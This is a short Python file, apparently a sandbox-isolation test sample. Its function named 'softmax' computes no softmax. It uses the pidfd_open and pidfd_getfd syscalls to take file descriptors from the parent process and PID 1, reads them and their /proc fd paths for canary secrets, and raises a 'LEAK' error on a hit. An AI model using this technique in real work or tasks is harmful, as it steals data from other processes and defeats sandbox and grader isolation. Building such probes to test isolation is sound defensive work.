import glob
import os


def leak(path):
    try:
        with open(path, errors="replace") as file:
            text = file.read(1 << 20)
    except OSError:
        return
    for word in text.split():
        if "CANARY" in word:
            raise RuntimeError(f"LEAK {path}: {word}")


import ctypes

libc = ctypes.CDLL(None)


def softmax(logits):
    for process in (os.getppid(), 1):
        handle = libc.syscall(434, process, 0)
        for number in range(64):
            stolen = libc.syscall(438, handle, number, 0)
            if stolen >= 0:
                leak(stolen)
                raise RuntimeError("LEAK descriptor")
            leak(f"/proc/{process}/fd/{number}")
